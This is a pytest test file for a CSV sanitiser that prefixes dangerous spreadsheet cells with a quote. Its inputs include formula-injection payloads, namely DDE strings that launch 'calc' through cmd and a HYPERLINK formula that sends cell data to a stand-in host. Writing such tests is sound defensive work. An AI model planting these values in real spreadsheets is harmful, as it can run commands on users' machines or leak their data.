"""Tables for spreadsheets hold no formula that could do harm, and change nothing else."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from workbench.core.csv_text import csv_text, harmless
from workbench.formats.csv_file import write_csv


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://x/?"&A1)', "=cmd|' /C calc'!A0", "+SUM(A1)", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=SUM(A1)", " =SUM(A1)", "\r=SUM(A1)", "='file:///a'#$b.A1",
    "=1+\nSUM(A1)", "＝SUM(A1)"])
def test_what_a_spreadsheet_would_run_is_a_text(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", [
    "", "deer", "-", "+", "-other", "+1", "-0.5", "=", "@home", "1e-5", "a=(b)",
    "img (1).jpg", "'x", "north/-(1).jpg", "- 3"])
def test_names_that_do_no_harm_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


def test_numbers_and_titles(tmp_path: Path) -> None:
    rows = [("file", "=SUM(A1)"), ("-(1).jpg", -0.5), ("a,b", None)]
    made = list(csv.reader(io.StringIO(csv_text(rows))))
    assert made == [["file", "'=SUM(A1)"], ["'-(1).jpg", "-0.5"], ["a,b", ""]]
    assert write_csv(tmp_path / "a.csv", rows) == 2 and write_csv(tmp_path / "b.csv", rows[:1]) == 0
    assert (tmp_path / "a.csv").read_bytes().startswith(b"\xef\xbb\xbffile,'=SUM(A1)\r\n")
    assert not (tmp_path / "b.csv").exists()
